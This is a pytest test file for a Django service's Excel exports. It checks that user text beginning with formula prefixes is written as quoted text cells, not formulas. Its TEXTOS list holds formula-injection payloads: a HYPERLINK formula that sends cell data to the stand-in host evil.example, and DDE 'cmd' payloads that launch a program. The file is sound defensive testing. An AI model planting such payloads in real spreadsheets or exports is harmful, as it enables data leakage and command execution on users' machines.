"""Formula injection: whatever users typed reaches every workbook the service writes as
text, never as a formula Excel would evaluate (on opening, or when the cell is edited);
numbers stay numbers. Each export is asked for over HTTP and read back with openpyxl."""

from __future__ import annotations

import datetime
import io
from decimal import Decimal
from http import HTTPStatus

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from sascop.actividad.models import RegistroActividad
from sascop.catalogos.tests.factories import ClienteFactory
from sascop.core import excel
from sascop.ots.tests.factories import OTFactory
from sascop.precios.tests.factories import AnexoFactory, ConceptoFactory, linea_de
from sascop.precios.tests.libros import TITULOS, xlsx
from sascop.produccion.tests.factories import ProduccionFactory
from sascop.ptes.tests.factories import PTEFactory

pytestmark = pytest.mark.django_db

# One text per prefix a spreadsheet takes for the start of a formula.
TEXTOS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _celdas(contenido: bytes) -> list[openpyxl.cell.Cell]:
    libro = openpyxl.load_workbook(io.BytesIO(contenido))
    return [celda for hoja in libro.worksheets for fila in hoja.iter_rows() for celda in fila]


def _contenido(response) -> bytes:
    assert response.status_code == HTTPStatus.OK, response.content[:300]
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def assert_texto(contenido: bytes, textos: list[str]) -> None:
    """Every text is in the workbook, as a string cell marked as text; no cell is a formula."""
    celdas = _celdas(contenido)
    assert [c.coordinate for c in celdas if c.data_type == "f"] == []
    for texto in textos:
        # XML reads a CR as a line feed (its line-end rule); the cell is the same text cell.
        encontradas = [c for c in celdas if c.value == texto.replace("\r", "\n")]
        assert encontradas, f"{texto!r} is not in the workbook"
        assert all(c.data_type == "s" and c.quotePrefix for c in encontradas), [
            (c.coordinate, c.data_type, c.quotePrefix) for c in encontradas
        ]


@pytest.fixture
def admin(role_client):
    return role_client("Administración")


def test_security_the_list_writer_keeps_formula_text_as_text_and_numbers_as_numbers():
    columnas = [excel.Columna("Texto"), excel.Columna("Monto", 12, excel.DINERO)]
    filas = [[texto, Decimal("-5.25")] for texto in TEXTOS]

    contenido = excel.escribir_libro(columnas, filas, hoja="x").read()

    assert_texto(contenido, TEXTOS)
    hoja = openpyxl.load_workbook(io.BytesIO(contenido))["x"]
    montos = [fila[1] for fila in hoja.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in montos] == [(-5.25, "n")] * len(TEXTOS)
    assert not any(c.quotePrefix for c in montos)
    # Ordinary text is left alone.
    simple = excel.escribir_libro(columnas, [["PTE-1", 1]], hoja="x").read()
    assert not openpyxl.load_workbook(io.BytesIO(simple))["x"]["A2"].quotePrefix


def test_security_pte_exports_write_formula_text_as_text(admin):
    for texto in TEXTOS:
        PTEFactory(descripcion_trabajo=texto, comentario=texto)

    assert_texto(_contenido(admin.get("/operaciones/api/ptes/?formato=xlsx")), TEXTOS)
    assert_texto(_contenido(admin.get("/ptes/?exportar=xlsx")), TEXTOS)


def test_security_ot_export_writes_formula_text_as_text(admin):
    for texto in TEXTOS:
        OTFactory(descripcion_trabajo=texto)

    assert_texto(_contenido(admin.get("/operaciones/api/ots/?formato=xlsx")), TEXTOS)


def test_security_production_list_and_sheet_write_formula_text_as_text(admin):
    ot = OTFactory()
    for n, texto in enumerate(TEXTOS):
        linea = linea_de(ot, concepto=ConceptoFactory(concepto=texto), volumen=Decimal("9"))
        ProduccionFactory(
            ot=ot,
            partida_anexo=linea,
            fecha_produccion=datetime.date(2026, 5, n + 1),
            comentario=texto,
        )

    lista = admin.get("/operaciones/api/produccion/?formato=xlsx")
    assert_texto(_contenido(lista), TEXTOS)
    sabana = admin.get(
        "/operaciones/api/produccion/sabana/",
        {"ot": ot.pk, "anio": 2026, "mes": 5, "formato": "xlsx"},
    )
    assert_texto(_contenido(sabana), TEXTOS)


def test_security_catalog_price_book_and_activity_exports_write_formula_text_as_text(admin):
    for texto in TEXTOS:
        ClienteFactory(descripcion=texto)
        ConceptoFactory(concepto=texto)
        RegistroActividad.objects.create(
            accion=RegistroActividad.Accion.MODIFICAR,
            entidad="pte",
            entidad_id="1",
            campo="comentario",
            valor_anterior=texto,
            valor_nuevo=texto,
        )

    clientes = admin.get("/operaciones/api/catalogos/clientes/?formato=xlsx")
    assert_texto(_contenido(clientes), TEXTOS)
    conceptos = admin.get("/operaciones/api/precios/conceptos/?formato=xlsx")
    assert_texto(_contenido(conceptos), TEXTOS)
    actividad = admin.get("/operaciones/api/actividad/?formato=xlsx")
    assert_texto(_contenido(actividad), TEXTOS)


def test_security_anexo_export_and_refused_copy_write_formula_text_as_text(admin, csrf):
    ot = OTFactory()
    c5 = AnexoFactory(clave="C-5")
    for n, texto in enumerate(TEXTOS):
        ConceptoFactory(anexo=c5, partida=f"1.{n}", concepto=texto, unidad="DIA")
    filas = [["C-5", f"1.{n}", texto, "DIA", 1] for n, texto in enumerate(TEXTOS)]
    encabezado = ["ANEXO", "PARTIDA", "CONCEPTO", "UNIDAD", "VOLUMEN PTE"]
    url = f"/operaciones/api/ots/{ot.pk}/anexo/"

    def importar(*extra):
        # The sender's texts as text cells (as Excel stores what was typed after an
        # apostrophe); `extra` rows as openpyxl takes them, "=..." being a formula.
        libro = openpyxl.load_workbook(io.BytesIO(xlsx({"A": [*TITULOS, encabezado, *filas]})))
        for fila in libro.worksheets[0].iter_rows():
            for celda in fila:
                if celda.data_type == "f":
                    celda.data_type = "s"
        for fila in extra:
            libro.worksheets[0].append(fila)
        salida = io.BytesIO()
        libro.save(salida)
        archivo = SimpleUploadedFile("a.xlsx", salida.getvalue())
        return admin.post(url, {"archivo": archivo}, **csrf(admin))

    assert importar().status_code == HTTPStatus.CREATED
    exportado = _contenido(admin.get(url, {"formato": "xlsx"}))
    assert_texto(exportado, TEXTOS)

    # A refused workbook whose own cells are formulas, and whose rows are wrong: the copy
    # handed back with OBSERVACIONES carries them as text.
    refusado = importar(["C-5", "9.9", "=1+1", "DIA", "=2*3"])
    assert refusado.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
    assert_texto(_contenido(admin.get(refusado.json()["observaciones"])), [*TEXTOS, "=2*3"])


def test_security_estimacion_and_gpu_board_exports_write_formula_text_as_text(admin, csrf):
    from sascop.estimaciones.tests.conftest import crear_obra
    from sascop.produccion.models import RegistroGPU

    obra = crear_obra()
    ot = obra["ot"]
    # The concepts' texts reach the claim; a GPU record's note and link reach the board.
    for linea, texto in zip((obra["buceo"], obra["lancha"], obra["gpu"]), TEXTOS, strict=False):
        linea.concepto.concepto = texto
        linea.concepto.save(update_fields=["concepto"])
    RegistroGPU.objects.create(produccion=obra["gpu3"], estatus="FIRMADO", nota=TEXTOS[3])
    creada = admin.post(
        f"/operaciones/api/ots/{ot.pk}/estimaciones/",
        {"desde": "2026-05-01", "hasta": "2026-05-31", "oficio": TEXTOS[3]},
        content_type="application/json",
        **csrf(admin),
    )
    assert creada.status_code == HTTPStatus.CREATED, creada.content[:300]

    estimacion = _contenido(
        admin.get(f"/operaciones/api/estimaciones/{creada.json()['id']}/", {"formato": "xlsx"})
    )
    assert_texto(estimacion, TEXTOS[:4])
    gpu = admin.get(
        f"/operaciones/api/ots/{ot.pk}/gpu/", {"anio": 2026, "mes": 5, "formato": "xlsx"}
    )
    assert_texto(_contenido(gpu), [TEXTOS[2], TEXTOS[3]])
